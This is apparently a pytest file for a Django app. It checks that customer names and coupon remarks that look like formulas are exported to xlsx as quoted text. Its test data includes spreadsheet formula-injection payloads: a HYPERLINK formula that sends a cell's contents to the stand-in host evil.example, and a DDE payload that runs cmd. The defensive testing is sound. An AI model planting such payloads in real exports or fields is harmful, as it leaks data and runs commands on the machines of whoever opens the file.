"""Exports are data, not code: a cell that a spreadsheet would read as a formula is written as text."""

from datetime import timedelta
from decimal import Decimal
from io import BytesIO

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from vouchers import services as voucher_services
from vouchers.models import CouponQuota

from ..conftest import actor_of
from ..factories import AssociationFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1"]  # (a leading CR is neutralised too; XML turns it into a newline on reading)


def cells(response):
    sheet = load_workbook(BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula(response, expected_texts):
    found = cells(response)
    assert [cell.coordinate for cell in found if cell.data_type == "f"] == []
    values = {cell.value for cell in found}
    for text in expected_texts:
        assert text in values  # kept exactly as typed, only stored as text
    for cell in found:
        if cell.value in expected_texts:
            assert cell.quotePrefix


def test_customer_names_that_look_like_formulas_export_as_text(tenant_a, admin_client_a):
    for n, text in enumerate(HOSTILE):
        AssociationFactory(partner=tenant_a.partner, customer__real_name=text, customer__domain_name=f"hostile{n}")
    response = admin_client_a.get("/customers/export.xlsx")
    assert response.status_code == 200
    assert_no_formula(response, HOSTILE)


def test_a_coupon_remark_that_looks_like_a_formula_exports_as_text(tenant_a, admin_client_a):
    now = timezone.now()
    quota = CouponQuota.objects.create(partner=tenant_a.partner, quota_type=0, quota_value=Decimal("50.00"),
                                       balance=Decimal("50.00"), effective_time=now - timedelta(days=1),
                                       expire_time=now + timedelta(days=30))
    remark = '=HYPERLINK("http://evil.example","x")'
    _infos, errors = voucher_services.issue_coupons(actor_of(tenant_a.admin), quota_id=quota.quota_id,
                                                    customer_ids=[tenant_a.resale.domain_id], face_value="10.00",
                                                    remark=remark)
    assert not errors
    response = admin_client_a.get("/vouchers/coupons/export.xlsx")
    assert response.status_code == 200
    assert_no_formula(response, [remark])


def test_plain_values_stay_as_they_were(tenant_a, admin_client_a):
    response = admin_client_a.get("/customers/export.xlsx")
    assert not any(cell.quotePrefix for cell in cells(response))
